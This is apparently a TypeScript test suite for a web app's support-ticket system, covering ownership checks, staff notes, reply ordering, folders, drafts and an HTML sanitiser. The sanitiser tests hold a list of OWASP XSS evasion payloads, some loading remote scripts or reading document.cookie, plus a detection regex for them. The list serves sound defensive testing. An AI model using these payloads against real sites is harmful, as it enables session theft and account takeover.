import { env } from "cloudflare:test";
import { describe, expect, it } from "vitest";
import { sanitiseTicketHtml } from "../../worker/src/domain/support/html";
import { call, createAdmin, createUser, type TestUser } from "./helpers";

/** The support desk (issue 39, decision 0015): ownership, staff notes, the sanitiser, ordered replies, folders. */

const french = `language=${encodeURIComponent(JSON.stringify("fr"))}`;

async function payment(userId: number): Promise<string> {
  const referenceId = `help${crypto.randomUUID().replaceAll("-", "")}`;
  await env.DB.prepare(
    `INSERT INTO payments (referenceId, userId, amount, currency, lines, expiresAt)
     VALUES (?1, ?2, 900, 'USD', '[]', strftime('%Y-%m-%dT%H:%M:%fZ', 'now', '+1 day'))`,
  )
    .bind(referenceId, userId)
    .run();
  return referenceId;
}

const desk = () => createUser({ role: "support", name: "Desk Dana" });

async function open(client: TestUser, subject = "My transfer is not confirmed", extra: Record<string, unknown> = {}) {
  const res = await call(
    "open-ticket",
    { subject, body: "<p>Hello <strong>team</strong></p>", label: "payment", ...extra },
    {
      cookie: client.cookie,
    },
  );
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  return res.body.ticket as { ticketId: number; about: unknown; status: string; unread: boolean };
}

describe("open-ticket and ownership", () => {
  it("opens a ticket about the client's own payment, and refuses another's with 404", async () => {
    const ana = await createUser();
    const ben = await createUser();
    const own = await payment(ana.userId);
    const ticket = await open(ana, "Payment stuck", { about: { kind: "payment", id: own } });
    expect(ticket).toMatchObject({ about: { kind: "payment", id: own }, status: "open", unread: false });

    const foreign = await payment(ben.userId);
    const refused = await call(
      "open-ticket",
      { subject: "Not mine", body: "<p>x</p>", label: "payment", about: { kind: "payment", id: foreign } },
      { cookie: ana.cookie },
    );
    expect(refused.status).toBe(404);
    expect(refused.body.code).toBe("not_found");
    expect(await env.DB.prepare("SELECT count(*) AS n FROM tickets WHERE subject = 'Not mine'").first("n")).toBe(0);
  });

  it("answers 404 on every call for another client's ticket, in the caller's language", async () => {
    const ana = await createUser();
    const ben = await createUser();
    const { ticketId } = await open(ana);
    for (const [name, body] of [
      ["ticket-detail", { ticketId }],
      ["reply-ticket", { ticketId, body: "<p>me too</p>" }],
      ["update-ticket", { ticketId, status: "closed" }],
    ] as const) {
      const res = await call(name, body, { cookie: `${ben.cookie}; ${french}` });
      expect(res.status, name).toBe(404);
      expect(res.body, name).toEqual({ error: "Ce ticket n’existe pas.", code: "not_found" });
    }
    const bens = await call("search-ticket", { folder: "inbox" }, { cookie: ben.cookie });
    expect(bens.body.data.map((t: { ticketId: number }) => t.ticketId)).not.toContain(ticketId);
    const staff = await createAdmin();
    const all = await call("search-ticket", { folder: "inbox", limit: 100 }, { cookie: staff.cookie });
    expect(all.body.data.map((t: { ticketId: number }) => t.ticketId)).toContain(ticketId);
  });

  it("refuses an empty message and changes nothing", async () => {
    const ana = await createUser();
    const res = await call("open-ticket", { subject: "Empty", body: "<script>x</script><p> </p>" }, { cookie: ana.cookie });
    expect(res.status).toBe(400);
    expect(res.body.field).toBe("body");
    expect(await env.DB.prepare("SELECT count(*) AS n FROM tickets WHERE userId = ?1").bind(ana.userId).first("n")).toBe(0);
  });
});

describe("staff notes and replies", () => {
  it("keeps internal notes from the client, shows them to staff, and refuses a client's note", async () => {
    const ana = await createUser();
    const dana = await desk();
    const { ticketId } = await open(ana);
    const note = await call(
      "reply-ticket",
      { ticketId, body: "<p>Refund approved internally</p>", internal: true },
      {
        cookie: dana.cookie,
      },
    );
    expect(note.status).toBe(200);
    expect(note.body.ticketMessage).toMatchObject({ internal: true, author: { userName: "Desk Dana", staff: true } });
    const reply = await call("reply-ticket", { ticketId, body: "<p>We are on it</p>" }, { cookie: dana.cookie });
    expect(reply.status).toBe(200);

    const seenByClient = await call("ticket-detail", { ticketId }, { cookie: ana.cookie });
    expect(seenByClient.body.messages.map((m: { body: string }) => m.body)).toEqual([
      "<p>Hello <strong>team</strong></p>",
      "<p>We are on it</p>",
    ]);
    expect(JSON.stringify(seenByClient.body)).not.toContain("internally");
    expect(seenByClient.body.ticket).toMatchObject({ status: "open", unread: true, preview: "We are on it" });

    const seenByStaff = await call("ticket-detail", { ticketId }, { cookie: dana.cookie });
    expect(seenByStaff.body.messages.map((m: { internal: boolean }) => m.internal)).toEqual([false, true, false]);

    const clientNote = await call("reply-ticket", { ticketId, body: "<p>secret</p>", internal: true }, { cookie: ana.cookie });
    expect(clientNote.status).toBe(403);

    const audits = await env.DB.prepare(
      "SELECT action FROM audit_log WHERE subject = 'Ticket' AND subjectId = ?1 ORDER BY auditId",
    )
      .bind(String(ticketId))
      .all<{ action: string }>();
    expect(audits.results.map((a) => a.action)).toEqual(["ticket-note", "ticket-reply"]);
  });

  it("keeps 10 concurrent replies, each its own place in order, writing at most 10 rows each", async () => {
    const ana = await createUser();
    const dana = await desk();
    const { ticketId } = await open(ana);
    const replies = await Promise.all(
      Array.from({ length: 10 }, (_, i) =>
        call("reply-ticket", { ticketId, body: `<p>reply ${i}</p>` }, { cookie: i % 2 ? ana.cookie : dana.cookie }),
      ),
    );
    for (const res of replies) {
      expect(res.status, JSON.stringify(res.body)).toBe(200);
      expect(res.usage!.rowsWritten).toBeLessThanOrEqual(10);
    }
    const seqs = replies.map((r) => r.body.ticketMessage.seq as number).sort((a, b) => a - b);
    expect(seqs).toEqual([2, 3, 4, 5, 6, 7, 8, 9, 10, 11]);
    const thread = await call("ticket-detail", { ticketId }, { cookie: ana.cookie });
    expect(thread.body.messages.map((m: { seq: number }) => m.seq)).toEqual([1, ...seqs]);
    const bySeq = new Map(replies.map((r) => [r.body.ticketMessage.seq as number, r.body.ticketMessage.body as string]));
    expect(thread.body.messages.slice(1).map((m: { seq: number; body: string }) => m.body)).toEqual(
      seqs.map((s) => bySeq.get(s)),
    );
  });
});

/** OWASP XSS filter evasion cheat sheet vectors (a selection covering each technique). */
const XSS_VECTORS = [
  "<script>alert('XSS')</script>",
  "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
  "<IMG SRC=\"javascript:alert('XSS');\">",
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  "<a onmouseover=alert(document.cookie)>xxs link</a>",
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  "<IMG SRC=# onmouseover=\"alert('xxs')\">",
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29">x</a>',
  "<a href=\"jav\tascript:alert('XSS');\">x</a>",
  "<a href=\"jav&#x09;ascript:alert('XSS');\">x</a>",
  "<a href=\" &#14;  javascript:alert('XSS');\">x</a>",
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
  "<iframe src=http://xss.rocks/scriptlet.html <",
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
  "<svg/onload=alert('XSS')>",
  "<BODY ONLOAD=alert('XSS')>",
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
  "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
  "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
  "<DIV STYLE=\"width: expression(alert('XSS'));\">",
  '<p style="color:red" class="x" onclick="alert(1)">styled</p>',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" AllowScriptAccess="always"></EMBED>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
  "<a href=\"vbscript:msgbox('XSS')\">vb</a>",
  "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
  "<BASE HREF=\"javascript:alert('XSS');//\">",
  '<FORM><BUTTON formaction="javascript:alert(1)">X</BUTTON></FORM>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<details open ontoggle=alert(1)>",
  '<a href="https://example.com" onclick="alert(1)" style="x">fine link</a>',
];

/** What a sanitised message must never hold: a script, an event handler, or a script or data address. */
function dangerous(html: string): string[] {
  const found: string[] = [];
  if (/<\s*script/i.test(html)) found.push("script tag");
  if (/<[^>]*\son[a-z]+\s*=/i.test(html)) found.push("on* attribute");
  if (/<[^>]*(javascript|vbscript|data):/i.test(html)) found.push("script or data URL in a tag");
  if (/<\s*(iframe|object|embed|img|svg|math|style|link|meta|base|form|input|button|body|table|div)\b/i.test(html))
    found.push("tag outside the allow-list");
  if (/<[^>]*\s(style|class|src)\s*=/i.test(html)) found.push("attribute outside the allow-list");
  return found;
}

describe("the rich-text allow-list", () => {
  it("leaves no script, on* attribute, or javascript:/data: address in any OWASP cheat-sheet vector", () => {
    const leaks = XSS_VECTORS.map((vector) => ({ vector, out: sanitiseTicketHtml(vector) }))
      .map(({ vector, out }) => ({ vector, out, found: dangerous(out) }))
      .filter((r) => r.found.length > 0);
    expect(leaks).toEqual([]);
  });

  it("keeps the editor's formatting and safe links, opened apart", () => {
    expect(sanitiseTicketHtml("<h2>Title</h2><p><em>a</em> <s>b</s> <code>c</code></p><ul><li>one</li></ul>")).toBe(
      "<h2>Title</h2><p><em>a</em> <s>b</s> <code>c</code></p><ul><li>one</li></ul>",
    );
    expect(sanitiseTicketHtml('<a href="https://example.com/x?a=1&b=2" onclick="alert(1)">link</a>')).toBe(
      '<a rel="noopener noreferrer nofollow" target="_blank" href="https://example.com/x?a=1&b=2">link</a>',
    );
  });

  it("stores what a reply sends only after the allow-list", async () => {
    const ana = await createUser();
    const { ticketId } = await open(ana);
    const res = await call(
      "reply-ticket",
      { ticketId, body: '<p onclick="steal()">look <img src=x onerror=alert(1)><a href="javascript:alert(1)">here</a></p>' },
      { cookie: ana.cookie },
    );
    expect(res.status).toBe(200);
    const stored = await env.DB.prepare("SELECT body FROM ticket_messages WHERE messageId = ?1")
      .bind(res.body.ticketMessage.messageId)
      .first<string>("body");
    expect(dangerous(stored!)).toEqual([]);
    expect(stored).toContain("look");
  });
});

describe("folders, marks and changes", () => {
  it("moves, stars and reads per reader, with unread counts per folder", async () => {
    const ana = await createUser();
    const dana = await desk();
    const { ticketId } = await open(ana, "Quota did not arrive");
    await call("reply-ticket", { ticketId, body: "<p>Checking</p>" }, { cookie: dana.cookie });
    const inbox = await call("search-ticket", { folder: "inbox" }, { cookie: ana.cookie });
    expect(inbox.body).toMatchObject({ total: 1, unread: { inbox: 1, starred: 0, spam: 0, trash: 0 } });

    await call("update-ticket", { ticketId, starred: true }, { cookie: ana.cookie });
    expect((await call("search-ticket", { folder: "starred" }, { cookie: ana.cookie })).body).toMatchObject({
      total: 1,
      unread: { inbox: 1, starred: 1 },
    });
    await call("update-ticket", { ticketId, read: true }, { cookie: ana.cookie });
    expect((await call("search-ticket", { folder: "inbox" }, { cookie: ana.cookie })).body.unread.inbox).toBe(0);

    await call("update-ticket", { ticketId, folder: "trash" }, { cookie: ana.cookie });
    expect((await call("search-ticket", { folder: "inbox" }, { cookie: ana.cookie })).body.total).toBe(0);
    expect((await call("search-ticket", { folder: "trash" }, { cookie: ana.cookie })).body.total).toBe(1);
    // Another reader's marks are theirs: the ticket is still in staff's inbox.
    const staffInbox = await call(
      "search-ticket",
      { folder: "inbox", search: "Quota did not", limit: 100 },
      { cookie: dana.cookie },
    );
    expect(staffInbox.body.data.map((t: { ticketId: number }) => t.ticketId)).toContain(ticketId);
    expect((await call("search-ticket", { folder: "sent", search: "Quota did not" }, { cookie: dana.cookie })).body.total).toBe(
      1,
    );
  });

  it("filters by label, status and text, ten to a page", async () => {
    const ana = await createUser();
    for (let i = 0; i < 12; i++) await open(ana, `Job report ${i}`, { label: i < 11 ? "job" : "account" });
    const jobs = await call("search-ticket", { folder: "inbox", label: "job" }, { cookie: ana.cookie });
    expect(jobs.body).toMatchObject({ total: 11, limit: 10 });
    expect(jobs.body.data).toHaveLength(10);
    expect(jobs.body.data[0].subject).toBe("Job report 10");
    const second = await call("search-ticket", { folder: "inbox", label: "job", page: 2 }, { cookie: ana.cookie });
    expect(second.body.data.map((t: { subject: string }) => t.subject)).toEqual(["Job report 0"]);
    expect((await call("search-ticket", { search: "report 11" }, { cookie: ana.cookie })).body.total).toBe(1);
    expect((await call("search-ticket", { status: "closed" }, { cookie: ana.cookie })).body.total).toBe(0);
  });

  it("autosaves a draft only its author sees, then sends it", async () => {
    const ana = await createUser();
    const staff = await createAdmin();
    const saved = await call(
      "open-ticket",
      { subject: "Half written", body: "<p>So far</p>", draft: true },
      { cookie: ana.cookie },
    );
    expect(saved.body).toMatchObject({ message: "Draft saved.", ticket: { draft: true } });
    const ticketId = saved.body.ticket.ticketId as number;
    expect((await call("search-ticket", { folder: "draft" }, { cookie: ana.cookie })).body.total).toBe(1);
    expect((await call("search-ticket", { folder: "inbox" }, { cookie: ana.cookie })).body.total).toBe(0);
    expect((await call("ticket-detail", { ticketId }, { cookie: staff.cookie })).status).toBe(404);

    const sent = await call(
      "open-ticket",
      { ticketId, subject: "Now complete", body: "<p>All of it</p>" },
      { cookie: ana.cookie },
    );
    expect(sent.body).toMatchObject({ message: "Ticket sent.", ticket: { draft: false, subject: "Now complete" } });
    expect((await call("search-ticket", { folder: "draft" }, { cookie: ana.cookie })).body.total).toBe(0);
    const thread = await call("ticket-detail", { ticketId }, { cookie: staff.cookie });
    expect(thread.body.messages.map((m: { body: string }) => m.body)).toEqual(["<p>All of it</p>"]);
  });

  it("lets the owner only close; staff change status, label and assignee (to staff only), with audit rows", async () => {
    const ana = await createUser();
    const dana = await desk();
    const { ticketId } = await open(ana);
    expect((await call("update-ticket", { ticketId, status: "pending" }, { cookie: ana.cookie })).status).toBe(403);
    expect((await call("update-ticket", { ticketId, label: "job" }, { cookie: ana.cookie })).status).toBe(403);
    expect((await call("update-ticket", { ticketId, assigneeId: ana.userId }, { cookie: dana.cookie })).status).toBe(400);

    const assigned = await call(
      "update-ticket",
      { ticketId, assigneeId: dana.userId, label: "account" },
      { cookie: dana.cookie },
    );
    expect(assigned.body.ticket).toMatchObject({ assigneeId: dana.userId, assigneeName: "Desk Dana", label: "account" });
    const closed = await call("update-ticket", { ticketId, status: "closed" }, { cookie: ana.cookie });
    expect(closed.body.ticket.status).toBe("closed");
    await call("reply-ticket", { ticketId, body: "<p>Still broken</p>" }, { cookie: ana.cookie });
    expect((await call("ticket-detail", { ticketId }, { cookie: ana.cookie })).body.ticket.status).toBe("open");
    const audits = await env.DB.prepare("SELECT action, detail FROM audit_log WHERE subject = 'Ticket' AND subjectId = ?1")
      .bind(String(ticketId))
      .all<{ action: string; detail: string }>();
    expect(audits.results).toEqual([
      { action: "update-ticket", detail: JSON.stringify({ label: "account", assigneeId: dana.userId }) },
    ]);
  });
});

describe("support-stats", () => {
  it("counts open tickets and the median first response of the last 30 days, for staff only", async () => {
    await env.DB.prepare("DELETE FROM tickets").run();
    const ana = await createUser();
    const dana = await desk();
    const ids: number[] = [];
    for (let i = 0; i < 4; i++) ids.push((await open(ana, `Stats ${i}`)).ticketId);
    for (const ticketId of ids.slice(0, 3))
      await call("reply-ticket", { ticketId, body: "<p>On it</p>" }, { cookie: dana.cookie });
    await call("update-ticket", { ticketId: ids[3], status: "closed" }, { cookie: ana.cookie });
    // Opened 10, 30 and 90 minutes before their first answer; the last one 40 days ago (outside the window).
    const opened = (ticketId: number, minutesBefore: number, daysAgo = 0) =>
      env.DB.prepare(
        `UPDATE tickets SET firstResponseAt = strftime('%Y-%m-%dT%H:%M:%fZ', 'now', ?2),
                createdAt = strftime('%Y-%m-%dT%H:%M:%fZ', 'now', ?2, ?3) WHERE ticketId = ?1`,
      )
        .bind(ticketId, `-${daysAgo} days`, `-${minutesBefore} minutes`)
        .run();
    await opened(ids[0]!, 10);
    await opened(ids[1]!, 30);
    await opened(ids[2]!, 90, 40);

    const stats = await call("support-stats", {}, { cookie: dana.cookie });
    expect(stats.body).toEqual({ openTickets: 3, openTicketsCapped: false, answeredTickets: 2, medianFirstResponseMinutes: 20 });
    expect((await call("support-stats", {}, { cookie: ana.cookie })).status).toBe(403);
  });
});
